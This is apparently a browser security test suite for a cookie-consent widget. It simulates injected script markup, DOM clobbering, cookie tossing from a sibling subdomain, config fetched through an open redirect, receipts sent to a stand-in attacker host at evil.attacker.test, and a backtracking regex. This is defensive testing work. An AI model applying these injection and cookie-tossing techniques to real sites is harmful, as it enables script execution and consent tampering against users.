// Issue 14, "Hostile pages": each attack on a page with a strict CSP (nonce) and on a plain page,
// as an attacker would try it, plus the legitimate uses that must keep working. The attacker's
// host is evil.attacker.test (every *.test name resolves to 127.0.0.1), a server of its own whose
// scripts record that they ran in window.__pwned.
import { createServer, type Server } from 'node:http';
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext, Page, Route } from 'playwright-core';
import { encodeChoice } from '../../src/core/choice';
import { launch, openPage, siteUrl, startDemo, widgetReady, type DemoServer } from './support';

let server: DemoServer;
let browser: Browser;
let evilServer: Server;
let evilPort: number;
const NONCE = 'n0nce';
const EVIL = 'evil.attacker.test';

/** csp: strict CSP with a nonce; nonce: the widget's tag carries a nonce, no CSP; plain: neither. */
type Variant = 'csp' | 'nonce' | 'plain';
const nonceAttr = (v: Variant) => (v === 'plain' ? '' : ` nonce="${NONCE}"`);
const evil = (path: string) => `http://${EVIL}:${evilPort}${path}`;

interface PageSpec {
  config?: string;
  /** Markup before the widget's tag (in <head>). */
  before?: string;
  /** Attributes on the widget's tag. */
  widget?: string;
  /** Markup at the start of <body>. */
  top?: string;
  body?: string;
}
function pageHtml(v: Variant, { config = '{ revision: 1, reloadOnWithdraw: false }', before = '', widget = '', top = '', body = '' }: PageSpec) {
  const n = nonceAttr(v);
  const csp = v === 'csp' ? `<meta http-equiv="Content-Security-Policy" content="script-src 'self' 'nonce-${NONCE}'; style-src 'self' 'nonce-${NONCE}'">` : '';
  // ' late': the page's own script inserts consent.js after load (see the inclusion tests).
  const tag = widget === ' late' ? '' : `<script src="/assets/consent/consent.js"${n}${widget}></script>`;
  return `<!doctype html><html lang="de"><head><meta charset="utf-8"><title>Kurs</title>${csp}
<script${n}>window.__pwned = []; window.__ran = []; ${config ? `window.asmeronexaConsentConfig = ${config};` : ''}</script>
${before}${tag}</head>
<body>${top}<main><h1>Kurs</h1><p>Inhalt</p></main>${body}</body></html>`;
}

/** Pages written per test and variant into one folder served under /hostile/. */
const pages: Record<string, string> = {};
let dir: string;
async function fixture(name: string, html: string): Promise<string> {
  pages[name] = html;
  await writeFile(join(dir, name), html);
  return `/hostile/${name}`;
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'anx-hostile-'));
  await writeFile(join(dir, 'sibling.html'), '<!doctype html><title>Sibling</title><p>another subdomain</p>');
  await writeFile(join(dir, 'mod.js'), "window.__ran.push('module:' + (typeof import.meta));");
  await writeFile(join(dir, 'config.json'), JSON.stringify({ revision: 1 }));
  // The attacker's server: any script records itself, /config.json is a config that runs one, /collect takes receipts.
  evilServer = createServer((req, res) => {
    const { pathname } = new URL(req.url ?? '/', 'http://x');
    const cors = { 'access-control-allow-origin': '*', 'cache-control': 'no-store' };
    if (pathname === '/vendor/ok.js') res.writeHead(200, { ...cors, 'content-type': 'text/javascript' }).end("window.__ran.push('service-src')");
    else if (pathname.endsWith('.js')) res.writeHead(200, { ...cors, 'content-type': 'text/javascript' }).end(`(window.__pwned = window.__pwned || []).push(${JSON.stringify(pathname)});`);
    else if (pathname === '/config.json') res.writeHead(200, { ...cors, 'content-type': 'application/json' }).end(JSON.stringify({ revision: 1, services: [{ id: 'x', category: 'session', src: [evil('/x.js')] }] }));
    else if (pathname === '/collect') res.writeHead(204, cors).end();
    else res.writeHead(404, cors).end();
  });
  await new Promise<void>((resolve) => evilServer.listen(0, '127.0.0.1', () => resolve()));
  evilPort = (evilServer.address() as { port: number }).port;
  [server, browser] = await Promise.all([startDemo({ '/hostile/': `${dir}/` }), launch()]);
});
afterAll(async () => {
  await browser?.close();
  await server?.close();
  await new Promise((resolve) => evilServer?.close(resolve));
});

/** Contexts opened by the running test: closed after it even when it failed half-way. */
const contexts: BrowserContext[] = [];
async function newContext(): Promise<BrowserContext> {
  const context = await browser.newContext();
  contexts.push(context);
  return context;
}
afterEach(async () => {
  await Promise.all(contexts.splice(0).map((c) => c.close().catch(() => {})));
});
const hostileContext = newContext;
/** Two page variants at once on a machine that may be busy. */
const SLOW = 60_000;

async function visit(context: BrowserContext, path: string, waitUntil: 'load' | 'domcontentloaded' = 'load') {
  const opened = await openPage(context);
  await opened.page.goto(siteUrl(server, path), { waitUntil });
  return opened;
}
const pwned = (p: Page) => p.evaluate(() => (window as unknown as { __pwned: string[] }).__pwned);
const ranHere = (p: Page) => p.evaluate(() => (window as unknown as { __ran: string[] }).__ran);
const evilRequests = (requests: string[]) => requests.filter((url) => new URL(url).hostname === EVIL);
const banner = (p: Page) => p.getByRole('region', { name: 'Cookies auf asmeronexa' });
/** Runs the same check on each variant at once (separate browser contexts); fails naming every variant that failed. */
async function onEach(variants: Variant[], check: (v: Variant) => Promise<void>) {
  const results = await Promise.allSettled(variants.map(check));
  const failed = results.flatMap((r, i) => (r.status === 'rejected' ? [`[${variants[i]}] ${String((r.reason as Error)?.message ?? r.reason)}`] : []));
  if (failed.length) throw new Error(failed.join('\n\n'));
}

describe('1. no nonce for markup', () => {
  it('markup injected after load (inline, external, accepted category) never runs where a nonce is in use', async () => {
    await onEach(['csp', 'nonce'], async (v) => {
      const n = nonceAttr(v);
      const path = await fixture(`gadget-${v}.html`, pageHtml(v, {
        config: `{ revision: 1, reloadOnWithdraw: false, services: [{ id: 'svc', category: 'analytics', src: ['http://vendor.attacker.test:${evilPort}/vendor/ok.js'] }] }`,
        body: `<script type="text/plain" data-category="session"${n}>window.__ran.push('server-session')</script>
               <script type="text/plain" data-category="analytics"${n}>window.__ran.push('server-analytics')</script><div id="slot"></div>`,
      }));
      const context = await hostileContext();
      const { page, requests, console } = await visit(context, path);
      await widgetReady(page);
      // The HTML-injection bug: markup lands in the page through innerHTML.
      await page.evaluate((src) => {
        document.getElementById('slot')!.innerHTML =
          `<script type="text/plain" data-category="session">window.__pwned.push('inline')</script>` +
          `<script type="text/plain" data-category="session" data-src="${src}"></script>` +
          `<script type="text/plain" data-category="analytics">window.__pwned.push('accepted-category')</script>`;
      }, evil('/x.js'));
      await page.evaluate(() => window.asmeronexaConsent!.acceptAll());
      // Legitimate: the page's own code inserts blocked markup that carries the nonce.
      await page.evaluate((nonce) => {
        const div = document.createElement('div');
        div.innerHTML = `<script type="text/plain" data-category="analytics" nonce="${nonce}">window.__ran.push('spa')</script>`;
        document.body.append(div);
      }, NONCE);
      await expect.poll(() => ranHere(page)).toEqual(expect.arrayContaining(['server-session', 'server-analytics', 'service-src', 'spa']));
      await page.waitForTimeout(300);
      expect(await pwned(page), v).toEqual([]);
      expect(evilRequests(requests), v).toEqual([]);
      // The widget copied no nonce onto markup that lacked one.
      expect(await page.evaluate(() => Array.from(document.querySelectorAll('#slot script')).map((s) => [s.getAttribute('type'), (s as HTMLScriptElement).nonce]))).toEqual([
        ['text/plain', ''], ['text/plain', ''], ['text/plain', ''],
      ]);
      expect(console.filter((m) => m.type === 'error' && m.text.includes('nonce')).length, v).toBeGreaterThan(0);
      await context.close();
    });
  }, SLOW);

  it('without a nonce anywhere, markup the page inserts later still runs (single-page apps)', async () => {
    const path = await fixture('spa-plain.html', pageHtml('plain', { body: '<div id="slot"></div>' }));
    const context = await newContext();
    const { page } = await visit(context, path);
    await widgetReady(page);
    await page.evaluate(() => window.asmeronexaConsent!.acceptAll());
    await page.evaluate(() => (document.getElementById('slot')!.innerHTML = `<script type="text/plain" data-category="analytics">window.__ran.push('spa')</script>`));
    await expect.poll(() => ranHere(page)).toEqual(['spa']);
    await context.close();
  }, SLOW);

  it('data-type: module runs; a type that is no script type (importmap) stays blocked with one error', async () => {
    await onEach(['csp', 'plain'], async (v) => {
      const n = nonceAttr(v);
      const path = await fixture(`type-${v}.html`, pageHtml(v, {
        body: `<script type="text/plain" data-category="analytics" data-type="importmap"${n}>{ "imports": { "vue": "http://${EVIL}/vue.js" } }</script>
               <script type="text/plain" data-category="analytics" data-type="module" data-src="/hostile/mod.js"${n}></script>
               <script type="text/plain" data-category="analytics" data-type=" text/JavaScript "${n}>window.__ran.push('mime')</script>`,
      }));
      const context = await newContext();
      const { page, console } = await visit(context, path);
      await widgetReady(page);
      await page.evaluate(() => window.asmeronexaConsent!.acceptAll());
      await expect.poll(() => ranHere(page)).toEqual(expect.arrayContaining(['module:object', 'mime']));
      expect(await page.locator('script[type="importmap"]').count(), v).toBe(0);
      expect(await page.locator('script[type="text/plain"][data-type="importmap"]').count(), v).toBe(1);
      await expect.poll(() => console.filter((m) => m.type === 'error' && m.text.includes('importmap')).length).toBe(1);
      await context.close();
    });
  }, SLOW);

  it('a blocked external script that never loads holds the queue only until a timeout, with an error', async () => {
    await onEach(['csp', 'plain'], async (v) => {
      const n = nonceAttr(v);
      const path = await fixture(`timeout-${v}.html`, pageHtml(v, {
        body: `<script type="text/plain" data-category="session" data-src="/hostile/never.js"${n}></script>
               <script type="text/plain" data-category="session"${n}>window.__ran.push('after')</script>`,
      }));
      const context = await newContext();
      const held: Route[] = [];
      await context.route(/\/hostile\/never\.js$/, (route) => void held.push(route)); // never answered
      // The pending script holds the load event (as it would in production): wait for the DOM only.
      const { page, console } = await visit(context, path, 'domcontentloaded');
      await widgetReady(page);
      expect(await ranHere(page)).toEqual([]);
      await expect.poll(() => ranHere(page), { timeout: 15_000 }).toEqual(['after']);
      await expect.poll(() => console.filter((m) => m.type === 'error' && m.text.includes('never.js')).length).toBe(1);
      await page.waitForTimeout(200);
      expect(console.filter((m) => m.type === 'error' && m.text.includes('never.js')).length, v).toBe(1);
      await context.close();
    });
  }, SLOW);
});

describe('2. no trust in clobberable globals', () => {
  it('<img name="currentScript"> before the widget: chunks still come from its own folder, none from the attacker', async () => {
    await onEach(['csp', 'plain'], async (v) => {
      const path = await fixture(`clobber-${v}.html`, pageHtml(v, { before: `<img name="currentScript" src="${evil('/p.gif')}">` }));
      const context = await hostileContext();
      const { page, requests } = await visit(context, path);
      await widgetReady(page);
      await page.waitForTimeout(1000);
      expect(await pwned(page), v).toEqual([]);
      expect(evilRequests(requests).filter((url) => url.endsWith('.js')), v).toEqual([]);
      await banner(page).waitFor();
      expect(requests.filter((url) => url.includes('consent-banner.')).map((url) => new URL(url).host), v).toEqual([`www.asmeronexa.test:${server.port}`]);
      await context.close();
    });
  }, SLOW);

  it('a pre-existing #asmeronexa-consent with a declarative shadow root is not reused', async () => {
    await onEach(['csp', 'plain'], async (v) => {
      const path = await fixture(`host-${v}.html`, pageHtml(v, {
        top: `<div id="asmeronexa-consent" data-evil><template shadowrootmode="open"><p>Mit „Weiter“ stimmen Sie zu.</p><slot></slot></template></div>`,
      }));
      const context = await newContext();
      const { page } = await visit(context, path);
      await widgetReady(page);
      await banner(page).waitFor();
      const where = await page.evaluate(() => {
        const evilHost = document.querySelector('[data-evil]')!;
        const region = Array.from(document.querySelectorAll('*')).map((el) => el.shadowRoot?.querySelector('[role="region"]')).find(Boolean)!;
        const host = (region.getRootNode() as ShadowRoot).host;
        return { evilHasShadow: evilHost.shadowRoot !== null, inEvil: host === evilHost, evilButtons: evilHost.shadowRoot?.querySelectorAll('button').length ?? 0, hostFirst: document.body.firstElementChild === host };
      });
      expect(where, v).toEqual({ evilHasShadow: true, inEvil: false, evilButtons: 0, hostFirst: true });
      await page.evaluate(() => window.asmeronexaConsent!.acceptAll());
      // The reopen button lands in the widget's own host too.
      await expect.poll(() => page.evaluate(() => document.querySelector('[data-evil]')!.shadowRoot!.querySelectorAll('button').length)).toBe(0);
      await expect.poll(() => page.getByRole('button', { name: 'Cookie-Einstellungen' }).count()).toBe(1);
      await context.close();
    });
  }, SLOW);
});

describe('3. the cookie by its exact raw name', () => {
  const TOSSED_ID = 'tossed-0000-4000-8000-000000000000';
  const accepting = () => encodeChoice({ id: TOSSED_ID, revision: 1, decidedAt: Math.floor(Date.now() / 1000) * 1000 - 60_000, categories: ['analytics', 'functional'], services: [] });

  /** The learner refuses; then a sibling subdomain sets a copied "accept everything" value on the parent domain. */
  async function refusedThenTossed(v: Variant, name: string) {
    const n = nonceAttr(v);
    const path = await fixture(`toss-${v}-${name.length}.html`, pageHtml(v, {
      body: `<script type="text/plain" data-category="analytics"${n}>window.__ran.push('analytics')</script>`,
    }));
    const context = await newContext();
    const opened = await visit(context, path);
    await widgetReady(opened.page);
    await banner(opened.page).getByRole('button', { name: 'Alle ablehnen' }).click();
    const ownId = await opened.page.evaluate(() => window.asmeronexaConsent!.getConsent()!.id);
    const sibling = await context.newPage();
    await sibling.goto(`http://evil.asmeronexa.test:${server.port}/hostile/sibling.html`);
    await sibling.evaluate(([cookie]) => (document.cookie = cookie), [`${name}=${accepting()}; domain=asmeronexa.test; path=/hostile`]);
    await sibling.close();
    await opened.page.reload();
    await widgetReady(opened.page);
    return { ...opened, context, ownId };
  }

  it('a copy under the encoded name asmeronexa%5Fconsent is another cookie: the learner\'s refusal stands', async () => {
    await onEach(['csp', 'plain'], async (v) => {
      const { page, context, ownId } = await refusedThenTossed(v, 'asmeronexa%5Fconsent');
      expect(await page.evaluate(() => window.asmeronexaConsent!.isAccepted('analytics')), v).toBe(false);
      expect(await page.evaluate(() => window.asmeronexaConsent!.getConsent()?.id), v).toBe(ownId);
      await page.waitForTimeout(200);
      expect(await ranHere(page), v).toEqual([]);
      expect(await banner(page).count(), v).toBe(0);
      await context.close();
    });
  }, SLOW);

  it('the real name twice (a longer Path on the parent domain): no choice; deciding removes the copy, and its id is never adopted', async () => {
    await onEach(['csp', 'plain'], async (v) => {
      const { page, context } = await refusedThenTossed(v, 'asmeronexa_consent');
      expect(await page.evaluate(() => document.cookie.split('; ').filter((c) => c.startsWith('asmeronexa_consent=')).length)).toBe(2);
      expect(await page.evaluate(() => window.asmeronexaConsent!.getConsent()), v).toBeNull();
      expect(await page.evaluate(() => window.asmeronexaConsent!.isAccepted('analytics')), v).toBe(false);
      await banner(page).waitFor();
      expect(await ranHere(page), v).toEqual([]);
      await banner(page).getByRole('button', { name: 'Alle ablehnen' }).click();
      expect(await page.evaluate(() => window.asmeronexaConsent!.getConsent()!.id), v).not.toBe(TOSSED_ID);
      expect((await context.cookies()).filter((c) => c.name === 'asmeronexa_consent').map((c) => `${c.domain}${c.path}`), v).toEqual(['www.asmeronexa.test/']);
      await page.reload();
      await widgetReady(page);
      expect(await page.evaluate(() => window.asmeronexaConsent!.getConsent()?.id), v).toMatch(/^[0-9a-f]{8}-/);
      expect(await banner(page).count(), v).toBe(0);
      expect(await page.evaluate(() => window.asmeronexaConsent!.isAccepted('analytics')), v).toBe(false);
      expect(await ranHere(page), v).toEqual([]);
      await context.close();
    });
  }, SLOW);
});

describe('4. config from elsewhere, receipts elsewhere, hostile cookie names', () => {
  it('data-config through an open redirect to another origin is refused; a same-origin redirect still works', async () => {
    await onEach(['csp', 'plain'], async (v) => {
      const [bad, good] = await Promise.all([
        fixture(`redirect-${v}.html`, pageHtml(v, { config: '', widget: ' data-config="/hostile/go?to=evil"' })),
        fixture(`redirect-ok-${v}.html`, pageHtml(v, { config: '', widget: ' data-config="/hostile/go?to=here"' })),
      ]);
      const context = await hostileContext();
      // The site's open redirect (e.g. a login "return to" URL).
      await context.route(/\/hostile\/go\?to=/, (route) => {
        const to = route.request().url().endsWith('evil') ? evil('/config.json') : siteUrl(server, '/hostile/config.json');
        return route.fulfill({ status: 302, headers: { location: to } });
      });
      const { page, requests, console } = await visit(context, bad);
      await page.waitForTimeout(1000);
      expect(await pwned(page), v).toEqual([]);
      expect(evilRequests(requests).filter((url) => url.endsWith('.js')), v).toEqual([]);
      await expect.poll(() => console.some((m) => m.type === 'error' && m.text.includes('[asmeronexa-consent]') && m.text.includes('config'))).toBe(true);
      const ok = await visit(context, good);
      await widgetReady(ok.page);
      await banner(ok.page).waitFor();
      await context.close();
    });
  }, SLOW);

  it('receipts.endpoint on another origin is refused unless the config allows it explicitly', async () => {
    await onEach(['csp', 'plain'], async (v) => {
      const [refused, allowed] = await Promise.all([
        fixture(`receipts-${v}.html`, pageHtml(v, { config: `{ revision: 1, receipts: { endpoint: '${evil('/collect')}' } }` })),
        fixture(`receipts-ok-${v}.html`, pageHtml(v, { config: `{ revision: 1, receipts: { endpoint: '${evil('/collect')}', allowCrossOrigin: true } }` })),
      ]);
      const context = await newContext();
      const a = await visit(context, refused);
      await widgetReady(a.page);
      await a.page.evaluate(() => window.asmeronexaConsent!.acceptAll());
      await a.page.waitForTimeout(500);
      expect(evilRequests(a.requests), v).toEqual([]);
      await expect.poll(() => a.console.filter((m) => m.type === 'error' && m.text.includes('receipts')).length).toBe(1);
      await context.clearCookies();
      const b = await visit(context, allowed);
      await widgetReady(b.page);
      await b.page.evaluate(() => window.asmeronexaConsent!.acceptAll());
      await expect.poll(() => evilRequests(b.requests).length).toBe(1);
      await context.close();
    });
  }, SLOW);

  it('a /regex/ cookie rule with nested quantifiers and a long hostile cookie name do not stall the page', async () => {
    await onEach(['csp', 'plain'], async (v) => {
      const path = await fixture(`regex-${v}.html`, pageHtml(v, {
        config: `{ revision: 1, reloadOnWithdraw: false, services: [{ id: 'tool', category: 'analytics', cookies: ['/^(a+)+$/', '/^_tool_/'] }] }`,
      }));
      const context = await newContext();
      await context.addCookies([
        { name: `${'a'.repeat(31)}!`, value: '1', domain: '.asmeronexa.test', path: '/' },
        { name: '_tool_id', value: '1', domain: '.asmeronexa.test', path: '/' },
      ]);
      const { page, console } = await visit(context, path);
      await widgetReady(page);
      await banner(page).waitFor();
      const started = Date.now();
      const answered = await Promise.race([
        page.evaluate(() => window.asmeronexaConsent!.rejectAll()).then(() => page.evaluate(() => 'responsive')),
        new Promise((resolve) => setTimeout(() => resolve('stalled'), 3000)),
      ]);
      expect(answered, `${v} after ${Date.now() - started} ms`).toBe('responsive');
      // The safe rule still works; the unsafe one was refused with an error naming it.
      expect((await context.cookies()).map((c) => c.name), v).not.toContain('_tool_id');
      await expect.poll(() => console.some((m) => m.type === 'error' && m.text.includes('cookies[0]'))).toBe(true);
      await context.close();
    });
  }, SLOW);
});

describe('legitimate inclusion keeps working under the strict CSP', () => {
  for (const how of ['async', 'late'] as const) {
    it(`${how} consent.js: the UI comes from its own folder, nonce-carrying markup runs after consent`, async () => {
      const late = `<script nonce="${NONCE}">addEventListener('load', () => { const s = document.createElement('script'); s.src = '/assets/consent/consent.js'; s.nonce = '${NONCE}'; document.head.append(s); });</script>`;
      const path = await fixture(`include-${how}.html`, pageHtml('csp', {
        widget: how === 'async' ? ' async' : ' late',
        body: `<script type="text/plain" data-category="analytics" nonce="${NONCE}">window.__ran.push('analytics')</script>${how === 'late' ? late : ''}`,
      }));
      const context = await newContext();
      const { page, requests, pageErrors } = await visit(context, path);
      await widgetReady(page);
      await banner(page).getByRole('button', { name: 'Alle akzeptieren' }).click();
      await expect.poll(() => ranHere(page)).toEqual(['analytics']);
      expect(requests.filter((url) => url.includes('consent-banner.')).map((url) => new URL(url).pathname)).toEqual(['/assets/consent/consent-banner.de.js']);
      expect(pageErrors).toEqual([]);
      await context.close();
    }, SLOW);
  }
});
